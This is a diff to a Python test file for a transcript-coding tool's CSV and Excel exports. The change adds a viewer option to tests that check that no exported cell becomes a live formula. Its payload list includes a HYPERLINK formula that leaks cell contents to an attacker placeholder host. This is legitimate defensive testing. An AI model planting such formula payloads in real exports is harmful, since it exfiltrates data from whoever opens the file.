@@ -28,7 +28,7 @@ from consult_coder.export import ExportOptions, codings_csv, tables_xlsx
 from consult_coder.ingest import import_files
 from consult_coder.model import Coder, Coding, Transcript
 from consult_coder.storage import Project
-from tests.factories import in_session
+from tests.factories import EVERYONE, in_session
 
 PAYLOADS = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
@@ -74,7 +74,7 @@ def _starts_like_a_formula(cell: str) -> bool:
 def test_no_workbook_cell_is_a_formula_on_any_sheet(project: Project) -> None:
     _payload_study(project)
     with project.session() as s:
-        data = tables_xlsx(s, ExportOptions(layer="=coder()"))
+        data = tables_xlsx(s, ExportOptions(layer="=coder()", viewer=EVERYONE))
     book = load_workbook(io.BytesIO(data))
     texts = set()
     for sheet in book.worksheets:
@@ -91,7 +91,7 @@ def test_no_workbook_cell_is_a_formula_on_any_sheet(project: Project) -> None:
 def test_csv_export_writes_every_user_string_as_text(project: Project) -> None:
     _payload_study(project)
     with project.session() as s:
-        data = codings_csv(s, ExportOptions(layer="=coder()"))
+        data = codings_csv(s, ExportOptions(layer="=coder()", viewer=EVERYONE))
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     header, body = rows[0], rows[1:]
     assert len(body) == 4 * len(PAYLOADS)
